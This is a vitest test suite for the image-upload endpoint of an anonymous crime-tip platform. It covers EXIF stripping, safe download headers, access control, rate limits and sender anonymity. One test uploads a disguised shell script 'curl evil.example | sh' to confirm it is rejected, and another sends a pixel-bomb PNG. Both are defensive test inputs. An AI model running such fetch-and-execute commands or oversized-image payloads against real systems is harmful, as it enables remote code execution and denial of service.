import { sql } from 'kysely';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectNoTraceOf, expectReporterEntries } from '../../../test/anonymity.ts';
import { api, makeOrg, makeToken, makeUser } from '../../../test/factories.ts';
import { startTestPlatform, type TestPlatform } from '../../../test/harness.ts';
import { CAMERA_SERIAL, jpegFromCamera, jpegMarkers, pixelBombPng, pngWithText } from '../../../test/images.ts';

const MAX_BYTES = 256 * 1024;
const PER_REPORT = 3;

let t: TestPlatform;
let police: { id: string };
let coordinator: { token: string };
let outsider: { token: string };
let analyst: { token: string };

beforeAll(async () => {
  t = await startTestPlatform({ config: { attachments: { maxBytes: MAX_BYTES, perReport: PER_REPORT } } });
  police = await makeOrg(t.ctx);
  const otherPolice = await makeOrg(t.ctx);
  const persona = async (orgId: string, role: 'coordinator' | 'analyst') => ({ token: await makeToken(t.ctx, (await makeUser(t.ctx, [{ orgId, role }])).id) });
  coordinator = await persona(police.id, 'coordinator');
  analyst = await persona(police.id, 'analyst');
  outsider = await persona(otherPolice.id, 'coordinator');
});
afterAll(async () => t.stop());

type Part = string | { bytes: Buffer; filename: string; type: string };

/** A multipart/form-data request body, encoded as a browser would. */
async function multipart(fields: Record<string, Part>): Promise<{ payload: Buffer; contentType: string }> {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) {
    if (typeof value === 'string') form.append(name, value);
    else form.append(name, new Blob([new Uint8Array(value.bytes)], { type: value.type }), value.filename);
  }
  const request = new Request('http://localhost/', { method: 'POST', body: form });
  return { payload: Buffer.from(await request.arrayBuffer()), contentType: request.headers.get('content-type')! };
}

interface Tip {
  id: string;
  receipt: string;
  passphrase: string;
}

let residents = 0;

/** A tip sent by a resident and routed to the police organisation. */
async function routedTip(): Promise<Tip> {
  const resident = `192.0.2.${++residents}`; // tips are limited per address
  const r = await api(t.app, { method: 'POST', url: '/api/v1/tips', body: { category: 'extortion', body: 'Cobran vacuna a los comercios.' }, remoteAddress: resident });
  const { rows } = await sql<{ id: string }>`select id from reports order by public_id desc limit 1`.execute(t.ctx.db);
  await sql`update reports set responsible_org_id = ${police.id} where id = ${rows[0]!.id}`.execute(t.ctx.db);
  return { id: rows[0]!.id, receipt: r.data.receipt, passphrase: r.data.passphrase };
}

async function upload(tip: Pick<Tip, 'receipt' | 'passphrase'>, file: Part, extra: { headers?: Record<string, string>; remoteAddress?: string } = {}) {
  const { payload, contentType } = await multipart({ receipt: tip.receipt, passphrase: tip.passphrase, file });
  const response = await t.app.inject({
    method: 'POST',
    url: '/api/v1/tips/attachments',
    payload,
    headers: { 'content-type': contentType, 'accept-language': 'es', ...extra.headers },
    ...(extra.remoteAddress ? { remoteAddress: extra.remoteAddress } : {}),
  });
  return Object.assign(response, { data: JSON.parse(response.body) });
}

const photo = (bytes: Buffer, filename = 'IMG_20260114_0931.jpg') => ({ bytes, filename, type: 'image/jpeg' });
const listAs = (who: { token: string }, reportId: string) => api(t.app, { url: `/api/v1/reports/${reportId}/attachments`, auth: who });
const downloadAs = (who: { token: string }, reportId: string, id: string) =>
  t.app.inject({ url: `/api/v1/reports/${reportId}/attachments/${id}`, headers: { authorization: `Bearer ${who.token}` } });

describe('image attachments', () => {
  it('are stored re-encoded, with no EXIF, GPS or camera serial, and still open as images', async () => {
    const tip = await routedTip();
    const r = await upload(tip, photo(await jpegFromCamera(64, 48)));
    expect(r.statusCode).toBe(201);
    expect(r.data).toMatchObject({ created: true, count: 1, limit: PER_REPORT, attachment: { mediaType: 'image/jpeg', width: 48, height: 64 } });
    const list = await listAs(coordinator, tip.id);
    expect(list.statusCode).toBe(200);
    const [item] = list.data.items;
    const file = await downloadAs(coordinator, tip.id, item.id);
    expect(file.statusCode).toBe(200);
    const stored = file.rawPayload;
    expect(stored.length).toBe(item.byteSize);
    expect(jpegMarkers(stored).filter((m) => m === 0xe1 || m === 0xe2 || m === 0xed)).toEqual([]);
    for (const trace of [CAMERA_SERIAL, 'Exif', 'GPS', 'Acme', 'IMG_20260114']) expect(stored.includes(trace), trace).toBe(false);
    expect(await sharp(stored).metadata()).toMatchObject({ format: 'jpeg', width: 48, height: 64 });
  });

  it('are downloaded as files, never shown inline or sniffed by the browser', async () => {
    const tip = await routedTip();
    await upload(tip, { bytes: await pngWithText('Calle Sur 12'), filename: 'a.png', type: 'image/png' });
    const [item] = (await listAs(coordinator, tip.id)).data.items;
    const file = await downloadAs(coordinator, tip.id, item.id);
    expect(file.headers['content-type']).toBe('image/png');
    expect(file.headers['content-disposition']).toBe(`attachment; filename="report-attachment-${item.id}.png"`);
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-security-policy']).toContain("default-src 'none'");
    expect(file.headers['cache-control']).toBe('no-store');
    expect(file.rawPayload.includes('Calle Sur')).toBe(false);
  });

  it('are not duplicated when the same image is sent again, and are limited per report', async () => {
    const tip = await routedTip();
    const first = await jpegFromCamera();
    expect((await upload(tip, photo(first))).statusCode).toBe(201);
    const again = await upload(tip, photo(first, 'renamed.jpg'));
    expect(again.statusCode).toBe(200);
    expect(again.data).toMatchObject({ created: false, count: 1 });
    for (let i = 1; i < PER_REPORT; i++) expect((await upload(tip, photo(await jpegFromCamera()))).statusCode).toBe(201);
    const over = await upload(tip, photo(await jpegFromCamera()));
    expect(over.statusCode).toBe(409);
    expect(over.data.error).toMatchObject({ code: 'TOO_MANY_ATTACHMENTS', message: `Este reporte ya tiene el máximo de ${PER_REPORT} imágenes.` });
    expect((await upload(tip, photo(first))).statusCode).toBe(200); // a late retry still finds its image
    const { rows } = await sql<{ n: number }>`select count(*)::int as n from report_attachments where report_id = ${tip.id}`.execute(t.ctx.db);
    expect(rows[0]!.n).toBe(PER_REPORT);
  });

  it('refuse a disguised file, whatever its name and claimed type, with a localized 415', async () => {
    const tip = await routedTip();
    const pdf = await upload(tip, photo(Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj'), 'photo.jpg'));
    expect(pdf.statusCode).toBe(415);
    expect(pdf.data.error.code).toBe('UNSUPPORTED_IMAGE');
    expect(pdf.data.error.message).toMatch(/^El archivo no es una imagen JPEG, PNG o WebP/);
    const script = await upload(tip, photo(Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'photo.jpg'), { headers: { 'accept-language': 'pt' } });
    expect(script.statusCode).toBe(415);
    expect(script.data.error.message).toMatch(/^O arquivo não é uma imagem/);
  });

  it('refuse an image over the size limit (413) and a pixel bomb (400) with clear messages', async () => {
    const tip = await routedTip();
    const large = await sharp({ create: { width: 400, height: 400, channels: 3, background: '#000', noise: { type: 'gaussian', mean: 128, sigma: 80 } } })
      .png({ compressionLevel: 0 })
      .toBuffer();
    expect(large.length).toBeGreaterThan(MAX_BYTES);
    const tooLarge = await upload(tip, { bytes: large, filename: 'big.png', type: 'image/png' }, { headers: { 'accept-language': 'en' } });
    expect(tooLarge.statusCode).toBe(413);
    expect(tooLarge.data.error).toMatchObject({ code: 'ATTACHMENT_TOO_LARGE', message: 'The image is too large: the maximum is 0.25 MB.' });
    const bomb = await upload(tip, { bytes: pixelBombPng(60_000, 60_000), filename: 'bomb.png', type: 'image/png' }, { headers: { 'accept-language': 'en' } });
    expect(bomb.statusCode).toBe(400);
    expect(bomb.data.error.details).toEqual([{ field: 'file', code: 'image_too_many_pixels', message: 'The image has too many pixels (at most 50 megapixels).' }]);
  });

  it('need the receipt and passphrase, refused exactly like the follow-up', async () => {
    const tip = await routedTip();
    const wrong = await upload({ receipt: tip.receipt, passphrase: 'AAAA-BBBB-CCCC-DDDD-EEEE' }, photo(await jpegFromCamera()));
    const access = await api(t.app, { method: 'POST', url: '/api/v1/tips/access', body: { receipt: tip.receipt, passphrase: 'AAAA-BBBB-CCCC-DDDD-EEEE' }, headers: { 'accept-language': 'es' } });
    expect(wrong.statusCode).toBe(401);
    expect(wrong.data.error.code).toBe('INVALID_RECEIPT');
    expect(wrong.data.error.message).toBe(access.data.error.message);
    const missing = await multipart({ receipt: tip.receipt, passphrase: tip.passphrase });
    const noFile = await t.app.inject({ method: 'POST', url: '/api/v1/tips/attachments', payload: missing.payload, headers: { 'content-type': missing.contentType } });
    expect(noFile.statusCode).toBe(400);
    expect(JSON.parse(noFile.body).error.details.map((d: { field: string }) => d.field)).toEqual(['file']);
  });

  it('answer an upload cut off by a dropped connection with 400, and store nothing', async () => {
    const tip = await routedTip();
    const { payload, contentType } = await multipart({ receipt: tip.receipt, passphrase: tip.passphrase, file: photo(await jpegFromCamera()) });
    const r = await t.app.inject({ method: 'POST', url: '/api/v1/tips/attachments', payload: payload.subarray(0, payload.length - 400), headers: { 'content-type': contentType } });
    expect(r.statusCode).toBe(400);
    expect(JSON.parse(r.body).error.code).toBe('MALFORMED_REQUEST');
    expect((await t.ctx.db.selectFrom('report_attachments').select('id').where('report_id', '=', tip.id).execute()).length).toBe(0);
  });

  it('show the resident what was attached when following up', async () => {
    const tip = await routedTip();
    await upload(tip, photo(await jpegFromCamera()));
    const r = await api(t.app, { method: 'POST', url: '/api/v1/tips/access', body: { receipt: tip.receipt, passphrase: tip.passphrase } });
    expect(r.data.attachments).toEqual([{ mediaType: 'image/jpeg', width: 48, height: 64, byteSize: expect.any(Number), receivedHour: expect.stringMatching(/:00:00\.000Z$/) }]);
  });

  it('are seen only by those who triage the report, and every read is audited', async () => {
    const tip = await routedTip();
    await upload(tip, photo(await jpegFromCamera()));
    const [item] = (await listAs(coordinator, tip.id)).data.items;
    for (const who of [outsider, analyst]) {
      expect((await listAs(who, tip.id)).statusCode).toBe(404);
      expect((await downloadAs(who, tip.id, item.id)).statusCode).toBe(404);
    }
    // An attachment is reached only through its own report.
    const other = await routedTip();
    expect((await downloadAs(coordinator, other.id, item.id)).statusCode).toBe(404);
    expect((await api(t.app, { url: `/api/v1/reports/${tip.id}/attachments` })).statusCode).toBe(404);
    await downloadAs(coordinator, tip.id, item.id);
    const reads = await t.ctx.db
      .selectFrom('audit_log')
      .select(['action', 'record_type', 'record_id', 'actor_user_id'])
      .where((eb) => eb.or([eb('record_id', '=', tip.id), eb('record_id', '=', item.id)]))
      .where('actor_user_id', 'is not', null)
      .execute();
    expect(reads.map((r) => `${r.action} ${r.record_type}`).sort()).toEqual(['read report_attachment', 'report.attachments.list report']);
  });

  it('are limited per address, counted before the upload is read', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 61; i++) {
      const r = await t.app.inject({ method: 'POST', url: '/api/v1/tips/attachments', payload: {}, remoteAddress: '192.0.2.250' });
      statuses.push(r.statusCode);
    }
    expect(statuses.slice(0, 60).every((s) => s === 400)).toBe(true);
    expect(statuses[60]).toBe(429);
  });

  it('keep multipart bodies away from the rest of the API', async () => {
    const form = await multipart({ category: 'other', body: 'x' });
    const r = await t.app.inject({ method: 'POST', url: '/api/v1/tips', payload: form.payload, headers: { 'content-type': form.contentType } });
    expect(r.statusCode).toBe(415);
  });

  it('leave no trace of the sender: no address, forwarded-for, user agent, file name or precise time', async () => {
    const tip = await routedTip();
    const r = await upload(tip, photo(await jpegFromCamera(), 'IMG_PRIVATE_NAME_0042.jpg'), {
      headers: { 'x-forwarded-for': '203.0.113.78', 'user-agent': 'Distinctive-Uploader/7.7', cookie: 'tracking=def456' },
      remoteAddress: '198.51.100.24',
    });
    expect(r.statusCode).toBe(201);
    expect(r.headers['set-cookie']).toBeUndefined();
    expect(r.headers['cache-control']).toBe('no-store');
    expect(r.headers['referrer-policy']).toBe('no-referrer');
    await expectNoTraceOf(t, ['203.0.113.78', '198.51.100.24', 'Distinctive-Uploader', 'def456', 'IMG_PRIVATE_NAME']);
    expect(t.logs.text).not.toContain('/api/v1/tips/attachments');
    expectReporterEntries(await t.ctx.db.selectFrom('audit_log').select(['at', 'request_id', 'actor_user_id']).where('action', '=', 'report.attachment').execute());
    const { rows } = await sql<{ hour: Date }>`select received_hour as hour from report_attachments where report_id = ${tip.id}`.execute(t.ctx.db);
    expect(rows[0]!.hour.getTime() % 3_600_000).toBe(0);
  });
});
